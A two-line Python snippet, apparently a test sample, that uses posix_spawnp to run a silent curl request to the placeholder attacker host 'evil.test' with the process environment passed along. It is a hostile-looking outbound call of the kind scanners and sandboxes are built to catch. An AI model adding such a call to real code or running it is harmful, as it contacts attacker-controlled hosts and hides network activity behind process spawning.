from os import posix_spawnp, environ
posix_spawnp("curl", ["curl", "-s", "http://evil.test"], environ)
